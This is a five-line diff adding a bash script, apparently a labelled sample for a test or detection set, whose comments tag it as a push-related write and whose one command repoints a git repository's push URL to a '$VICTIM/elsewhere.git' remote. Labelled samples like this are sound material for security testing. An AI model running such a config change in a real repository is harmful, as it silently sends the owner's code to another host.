@@ -1,0 +1,5 @@
+#!/bin/bash -e
+# remote.origin.pushurl leads elsewhere.
+# host: push
+# harm: writes
+git config remote.origin.pushurl "$VICTIM/elsewhere.git"
